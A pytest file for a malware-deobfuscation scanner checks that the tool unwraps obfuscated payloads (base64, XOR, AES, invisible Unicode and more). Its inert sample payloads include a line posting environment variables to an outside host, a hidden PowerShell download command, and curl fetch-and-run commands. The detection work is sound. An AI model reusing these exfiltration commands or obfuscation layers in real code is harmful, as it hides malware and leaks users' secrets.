"""peel: literal payloads, assembled from pieces in one scope, decoded through each transform.

Every payload below is an inert imitation; it is decoded, never run."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import lzma
import zlib

import pytest
from antivenom.peel import PeelCaps, peel_file
from cryptography.fernet import Fernet
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

# The trailing comment puts '+' and '/' in the base64, so the urlsafe alphabet differs.
CODE = (b"import os, urllib.request\n"
        b"urllib.request.urlopen('https://example.invalid/c', data=repr(os.environ).encode())  # ??~~>>\n")
B64 = base64.b64encode(CODE).decode()


def _python(result, name_part: str = "::peel/"):
    return [d for d in result.derived if d.kind == "python" and name_part in d.name]


def _decodes_to_code(source: str, *, path: str = "setup.py") -> list[str]:
    """The chain of the derived Python file holding CODE (fails the test if none)."""
    result = peel_file(path, source.encode())
    found = [d for d in _python(result) if d.data == CODE]
    assert found, f"not decoded: {[(d.name, d.chain) for d in result.derived]}"
    return found[0].chain


def _xor(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


@pytest.mark.parametrize(("encode", "decode_call", "step"), [
    (lambda b: base64.b64encode(b).decode(), "base64.b64decode(P)", "base64"),
    (lambda b: base64.urlsafe_b64encode(b).decode(), "base64.urlsafe_b64decode(P)", "base64-urlsafe"),
    (lambda b: base64.b32encode(b).decode(), "base64.b32decode(P)", "base32"),
    (lambda b: b.hex(), "bytes.fromhex(P)", "base16"),
    (lambda b: base64.b85encode(b).decode(), "base64.b85decode(P)", "base85"),
    (lambda b: base64.a85encode(b).decode(), "base64.a85decode(P)", "ascii85"),
])
def test_base_encodings(encode, decode_call, step) -> None:
    source = f"import base64\nP = {encode(CODE)!r}\nexec({decode_call})\n"
    assert step in _decodes_to_code(source)


@pytest.mark.parametrize(("compress", "step"), [
    (zlib.compress, "zlib"), (gzip.compress, "gzip"), (bz2.compress, "bz2"),
    (lzma.compress, "lzma"), (lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE), "lzma"),
])
def test_compressions_under_base64(compress, step) -> None:
    blob = base64.b64encode(compress(CODE)).decode()
    assert _decodes_to_code(f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({blob!r})))\n") \
        == ["base64", step]


def test_rot13_needs_and_uses_the_hint() -> None:
    blob = codecs.encode(B64, "rot13")
    assert _decodes_to_code(f"import codecs, base64\nexec(base64.b64decode(codecs.decode({blob!r}, 'rot13')))\n") \
        == ["rot13", "base64"]


def test_reversed_base64() -> None:
    assert _decodes_to_code(f"import base64\nexec(base64.b64decode({B64[::-1]!r}[::-1]))\n") == ["reverse", "base64"]


def test_reverse_after_decoding() -> None:
    blob = base64.b64encode(CODE[::-1]).decode()
    assert _decodes_to_code(f"import base64\nexec(base64.b64decode({blob!r})[::-1])\n") == ["base64", "reverse"]


def test_xor_with_literal_key_in_scope() -> None:
    blob = base64.b64encode(_xor(CODE, b"s3cr3t")).decode()
    source = ("import base64\ndef run():\n    k = 's3cr3t'\n    d = base64.b64decode(" + repr(blob) + ")\n"
              "    exec(bytes(c ^ ord(k[i % len(k)]) for i, c in enumerate(d)))\n")
    assert _decodes_to_code(source) == ["base64", "xor-key:b's3cr3t'"]


def test_single_byte_xor_brute_force() -> None:
    blob = _xor(CODE, b"\x5a").hex()
    source = f"d = bytes.fromhex({blob!r})\nexec(bytes(c ^ K for c in d))\n"
    assert _decodes_to_code(source)[-1] == "xor-byte:90"


def test_xor_without_a_xor_in_the_code_is_not_tried() -> None:
    blob = _xor(CODE, b"\x5a").hex()
    result = peel_file("a.py", f"d = bytes.fromhex({blob!r})\nprint(d)\n".encode())
    assert not _python(result)


def test_fernet_with_the_key_beside_the_token() -> None:
    key = base64.urlsafe_b64encode(b"antivenom-test-key-32-bytes-long")
    token = Fernet(key).encrypt(CODE).decode()
    source = (f"from cryptography.fernet import Fernet\nKEY = {key.decode()!r}\n"
              f"exec(Fernet(KEY).decrypt({token!r}))\n")
    assert _decodes_to_code(source) == ["fernet"]


@pytest.mark.parametrize("mode", ["cbc", "gcm"])
def test_aes_with_literal_key(mode) -> None:
    key, iv = b"K" * 16 + b"k" * 16, b"I" * 16
    if mode == "cbc":
        pad = 16 - len(CODE) % 16
        enc = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
        blob = enc.update(CODE + bytes([pad]) * pad) + enc.finalize()
        source = f"from Crypto.Cipher import AES\nk = {key!r}\niv = {iv!r}\nd = {base64.b64encode(blob).decode()!r}\n"
    else:
        nonce = b"N" * 12
        enc = Cipher(algorithms.AES(key), modes.GCM(nonce)).encryptor()
        blob = nonce + enc.update(CODE) + enc.finalize() + enc.tag
        source = f"from Crypto.Cipher import AES\nk = {key!r}\nd = {base64.b64encode(blob).decode()!r}\n"
    assert _decodes_to_code(source + "exec(AES.new(k, AES.MODE_X).decrypt(base64.b64decode(d)))\n")[-1] \
        .startswith(f"aes-{mode}")


def test_wrong_key_finds_nothing() -> None:
    key = base64.urlsafe_b64encode(b"antivenom-test-key-32-bytes-long")
    other = base64.urlsafe_b64encode(b"another-key-of-32-bytes-exactly!")
    token = Fernet(key).encrypt(CODE).decode()
    result = peel_file("a.py", f"from cryptography.fernet import Fernet\nexec(Fernet({other.decode()!r}).decrypt("
                                f"{token!r}))\n".encode())
    assert not _python(result)


# -- assembly from pieces -------------------------------------------------------

@pytest.mark.parametrize(("expression", "step"), [
    (f"{B64[:30]!r} + {B64[30:]!r}", "concat"),
    (f"''.join([{B64[:30]!r}, {B64[30:60]!r}, {B64[60:]!r}])", "join"),
    (f"'{{}}{{}}'.format({B64[:30]!r}, {B64[30:]!r})", "format"),
    (f"f'{{A}}' + {B64[30:]!r}", "fstring"),
    (f"{('xx' + B64 + 'yy')!r}[2:-2]", "slice"),
    (f"{B64[::-1]!r}[::-1]", "reverse"),
    (f"{B64.replace('A', '!')!r}.replace('!', 'A')", "replace"),
])
def test_assembly_forms(expression, step) -> None:
    source = f"import base64\nA = {B64[:30]!r}\nP = {expression}\nexec(base64.b64decode(P))\n"
    assert step in _decodes_to_code(source)


def test_pieces_split_across_variables_and_augmented_assignment() -> None:
    source = (f"import base64\ndef go():\n    a = {B64[:20]!r}\n    b = {B64[20:50]!r}\n    p = a + b\n"
              f"    p += {B64[50:]!r}\n    exec(base64.b64decode(p))\n")
    assert _decodes_to_code(source)[0] == "concat"


def test_pieces_in_another_function_are_not_joined() -> None:
    source = (f"import base64\ndef f():\n    a = {B64[:40]!r}\ndef g():\n    b = {B64[40:]!r}\n"
              "    exec(base64.b64decode(a + b))\n")
    result = peel_file("a.py", source.encode())
    assert not [d for d in _python(result) if d.data == CODE]


@pytest.mark.parametrize("form", [
    "''.join(chr(c) for c in {codes})",
    "''.join(map(chr, {codes}))",
    "bytes({codes}).decode()",
    "''.join([chr(c) for c in {codes}])",
])
def test_chr_and_byte_lists(form) -> None:
    codes = list(CODE)
    assert _decodes_to_code(f"exec({form.format(codes=codes)})\n")


def test_chr_list_with_an_offset() -> None:
    codes = [c + 7 for c in CODE]
    assert _decodes_to_code(f"exec(''.join(chr(c - 7) for c in {codes}))\n")[-1] == "chr-list-sub:7"


def test_plain_code_in_a_string_only_in_exec_context() -> None:
    text = CODE.decode()
    assert _decodes_to_code(f"import subprocess, sys\nsrc = {text!r}\nsubprocess.run([sys.executable, '-c', src])\n")
    result = peel_file("a.py", f"TEMPLATE = {text!r}\nprint(TEMPLATE)\n".encode())
    assert not _python(result)


def test_whitespace_bits() -> None:
    bits = "".join(f"{b:08b}" for b in CODE).replace("0", " ").replace("1", "\t")
    assert _decodes_to_code(f"S = {bits!r}\nexec(bytes(int(S[i:i+8].replace(' ', '0').replace('\\t', '1'), 2) "
                            "for i in range(0, len(S), 8)))\n")[-1] == "whitespace-bits"


def test_emoji_map_literal() -> None:
    alphabet = sorted(set(B64))
    emoji = [chr(0x1F600 + i) for i in range(len(alphabet))]
    table = dict(zip(alphabet, emoji, strict=True))
    encoded = "".join(table[c] for c in B64)
    source = f"import base64\nM = {table!r}\nR = {{v: k for k, v in M.items()}}\nE = {encoded!r}\n" \
             "exec(base64.b64decode(''.join(R[c] for c in E)))\n"
    assert _decodes_to_code(source) == ["char-map", "base64"]


@pytest.mark.parametrize(("encode", "step"), [
    (lambda b: "".join(chr(0xE0000 + c) for c in b), "unicode-tags"),
    (lambda b: "".join(chr(0xFE00 + c) if c < 16 else chr(0xE0100 + c - 16) for c in b), "variation-selectors"),
    (lambda b: "".join(chr(0xE000 + c) for c in b), "private-use"),
])
def test_invisible_unicode(encode, step) -> None:
    source = f"s = 'x{encode(CODE)}'  # looks like s = 'x'\nexec(bytes(ord(c) & 0xFF for c in s[1:]))\n"
    assert _decodes_to_code(source) == [step]


def test_layers_below_layers_carry_the_whole_chain() -> None:
    inner = f"import base64\nexec(base64.b64decode({B64!r}))\n".encode()
    outer = base64.b64encode(zlib.compress(inner)).decode()
    result = peel_file("pkg/__init__.py", f"import zlib, base64\nx = 1\nexec(zlib.decompress(base64.b64decode("
                                          f"{outer!r})))\n".encode())
    final = next(d for d in result.derived if d.data == CODE)
    assert final.depth == 2
    assert final.chain == ["base64", "zlib", "base64"]
    assert final.origin_path == "pkg/__init__.py" and final.origin_line == 3
    assert [s["path"] for s in final.decoded_from()] == ["pkg/__init__.py", "pkg/__init__.py::peel/1"]
    assert final.decoded_from()[1]["line"] == 2


def test_non_python_text_file_is_searched_with_a_regex() -> None:
    result = peel_file("data/config.txt", f"payload: {B64}\n".encode())
    assert [d.data for d in _python(result)] == [CODE]


def test_benign_strings_produce_nothing() -> None:
    source = ("import base64\nMSG = 'This sentence is an ordinary message of moderate length.'\n"
              "ID = 'abcdefghijklmnopqrstuvwxyz012345'\nTOKEN = base64.b64encode(b'user:pass')\n"
              "URL = 'https://example.org/' + 'docs/index.html'\n")
    result = peel_file("a.py", source.encode())
    assert [d for d in result.derived if d.kind == "python"] == []


def test_caps_object_defaults() -> None:
    caps = PeelCaps()
    assert caps.max_depth == 5 and caps.max_decoded_bytes == 10 * 1024 * 1024


def test_powershell_encoded_command_inside_a_command_line() -> None:
    script = "powershell -c iwr https://x.example.invalid/a.exe -OutFile $env:TEMP\\a.exe"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    source = f"import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {blob}')\n"
    texts = [d for d in peel_file("setup.py", source.encode()).derived if d.kind == "text"]
    assert [(d.data.decode(), d.chain) for d in texts] == [(script, ["embedded-base64", "utf-16le"])]


def test_base64_pe_is_a_binary_derived_file() -> None:
    pe = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode" + b"\x00" * 100
    result = peel_file("setup.py", f"B = {base64.b64encode(pe).decode()!r}\n".encode())
    assert [(d.kind, d.chain) for d in result.derived] == [("binary", ["base64"])]


def test_a_command_the_folder_decoded_and_handed_to_a_shell_is_a_layer():
    # hex with separators stripped by .replace, then bytes.fromhex: the folder decodes it itself
    command = b"curl -sL https://example.invalid/raw/x -o /tmp/h.py && python /tmp/h.py"
    hexed = command.hex()
    source = (f'import os\ndef run():\n    os.system(bytes.fromhex("{hexed[:20]}--{hexed[20:]}"'
              f'.replace("-", "")).decode())\n').encode()
    result = peel_file("pkg/core.py", source)
    assert [(d.kind, d.chain, d.data, d.origin_line) for d in result.derived] == [
        ("text", ["replace", "fromhex"], command, 3)]


def test_a_caesar_shift_over_a_reversed_string_is_folded() -> None:
    code = CODE.decode()
    shifted = "".join(chr(ord(c) + 3) for c in code)[::-1]
    source = f"s = {shifted!r}\nexec(''.join(chr(ord(c) - 3) for c in s[::-1]))\n"
    assert _decodes_to_code(source)[-1] == "chr-list-sub:3"


def test_an_endpoint_the_folder_decoded_is_a_layer_even_outside_a_sink() -> None:
    # iamenumer: the endpoint hides as a reversed, Caesar-shifted string, posted to elsewhere
    url = "https://collect.example.invalid/aws"
    hidden = "".join(chr(ord(c) + 3) for c in url)[::-1]
    source = (f"import os\nfrom urllib import request\ndef send(d):\n    uc = {hidden!r}\n"
              "    endpoint = os.environ.get('X', ''.join(chr(ord(c) - 3) for c in uc[::-1]))\n"
              "    request.urlopen(endpoint, data=d)\n").encode()
    result = peel_file("pkg/main.py", source)
    assert [(d.kind, d.chain, d.data, d.origin_line) for d in result.derived] == [
        ("text", ["reverse", "chr-list-sub:3"], url.encode(), 5)]
    # the same URL written plainly is no layer: nothing was hidden
    assert not peel_file("pkg/main.py", f"import requests\nrequests.post({url!r}, data=d)\n".encode()).derived


def test_a_gated_file_with_payload_words_gets_a_view_only_when_it_has_something_to_respell():
    assembled = (b"import base64, os, requests\nu = 'https://paste' + 'bin.invalid/raw/x'\n"
                 b"os.system(base64.b64decode(requests.get(u).text))\n")
    names = [d.name for d in peel_file("setup.py", assembled, gated=True).derived]
    assert "setup.py::normalised" in names
    plain = b"import base64, os\nos.system(base64.b64decode(c))\n"
    assert not [d for d in peel_file("setup.py", plain, gated=True).derived if d.kind == "normalised"]
